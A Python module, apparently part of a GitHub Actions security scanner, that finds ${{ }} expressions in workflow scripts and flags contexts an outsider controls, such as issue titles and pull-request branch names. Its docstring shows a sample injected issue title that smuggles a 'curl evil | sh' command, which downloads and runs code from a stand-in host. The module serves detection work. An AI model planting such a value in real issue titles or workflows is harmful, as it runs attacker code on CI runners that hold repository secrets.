"""``${{ … }}`` expressions in a script, the contexts they read, and which of those an outsider writes.

GitHub expands an expression into the script *before* the shell runs it, so
an issue title like ``a"; curl evil | sh; "`` in ``${{ github.event.issue.title }}``
becomes code (template injection, OWASP CICD-SEC-4). The safe form is an
``env:`` variable (``TITLE: ${{ … }}``) read as ``"$TITLE"``.

>>> [e["contexts"] for e in find_expressions('echo "${{ github.event.issue.title }}"')]
[['github.event.issue.title']]
>>> attacker_controllable("github.event.pull_request.head.ref"), attacker_controllable("github.sha")
(True, False)

The list of outsider-written fields follows GitHub Security Lab's
"untrusted input" list (titles, bodies, commit messages, branch names,
labels, author names and e-mails, page names, whole event objects passed to
``toJSON``). Inputs (``inputs.*``, ``github.event.inputs.*``) come from
someone with write access and are not flagged; zizmor flags them with low
confidence — a documented difference.
"""

from __future__ import annotations

import re

_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.S)
_LITERAL = re.compile(r"(?<!\[)'(?:[^']|'')*'")  # not an index: a['b']
_CONTEXT = re.compile(
    r"(?<![\w.-])(github|env|inputs|secrets|steps|needs|matrix|vars|job|jobs|runner|strategy)"
    r"((?:\s*\.\s*[\w*-]+|\s*\[[^\]]*\])*)")
_INDEX = re.compile(r"\[\s*'([^']*)'\s*\]|\[\s*\"([^\"]*)\"\s*\]|\[[^\]]*\]")

_TEXT_FIELDS = ("title|body|message|label|name|email|page_name|default_branch|head_branch|display_title"
                "|description|head_ref|body_text|body_html")
_TEXT_OBJECTS = "issue|pull_request|comment|review|review_comment|head_commit|commits|discussion|pages|workflow_run"
_UNTRUSTED = re.compile(
    r"^github\.head_ref$"
    r"|^github\.event$"
    rf"|^github\.event\.(?:[\w*.-]+\.)?(?:{_TEXT_FIELDS})$"
    r"|^github\.event\.(?:[\w*.-]+\.)?head\.ref$"
    rf"|^github\.event\.(?:{_TEXT_OBJECTS})(?:\.\*)?$")
_TRUSTED_PREFIXES = ("github.event.inputs.", "github.event.repository.", "github.event.organization.",
                     "github.event.enterprise.", "github.event.installation.")


def _normalise(head: str, tail: str) -> str:
    def index(match: re.Match) -> str:
        key = match.group(1) if match.group(1) is not None else match.group(2)
        return f".{key}" if key is not None and re.fullmatch(r"[\w-]+", key) else ".*"

    tail = _INDEX.sub(index, re.sub(r"\s+", "", tail))
    return head + tail


def contexts_of(expression: str) -> list[str]:
    """The context paths an expression reads, normalised (``a['b']`` → ``a.b``, ``a[0]`` → ``a.*``)."""
    bare = _LITERAL.sub("''", expression)
    found: list[str] = []
    for match in _CONTEXT.finditer(bare):
        path = _normalise(match.group(1), match.group(2))
        if path not in found:
            found.append(path)
    return found


def attacker_controllable(context: str) -> bool:
    """True when an outsider (an issue author, a fork's pull request) writes this context's value."""
    if context.startswith(_TRUSTED_PREFIXES):
        return False
    return _UNTRUSTED.match(context) is not None


def find_expressions(text: str | None) -> list[dict]:
    """Every ``${{ … }}`` in *text* (also spanning lines): ``expression``, ``line`` (1-based
    within the text), ``contexts``, ``untrusted`` (the attacker-controllable contexts)."""
    if not text or "${{" not in text:
        return []
    found = []
    for match in _EXPRESSION.finditer(text):
        contexts = contexts_of(match.group(1))
        found.append({
            "expression": match.group(0), "line": text.count("\n", 0, match.start()) + 1,
            "contexts": contexts, "untrusted": [c for c in contexts if attacker_controllable(c)],
        })
    return found

